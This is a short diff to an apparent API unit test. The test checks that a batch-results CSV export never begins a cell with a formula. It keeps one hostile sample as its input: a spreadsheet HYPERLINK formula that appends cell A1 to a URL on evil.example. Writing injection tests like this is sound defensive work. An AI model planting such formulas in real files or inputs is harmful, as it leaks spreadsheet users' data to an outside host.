@@ -162,7 +162,9 @@ def test_batch_results_csv_never_starts_a_cell_with_a_formula(
     import io
 
     formula = '=HYPERLINK("https://evil.example/?leak="&A1)'
-    item = {"first_name": "Ann", formula: "x"}
+    from tests.unit.api.test_intake import valid_body
+
+    item = valid_body() | {formula: "x"}  # valid but for that field: its error comes first
     created = client.post("/api/v1/batches", json={"items": [item]}, headers=bearer)
     assert created.status_code == 202, created.get_json()
     results = client.get(f"/api/v1/batches/{created.get_json()['id']}/results.csv", headers=bearer)
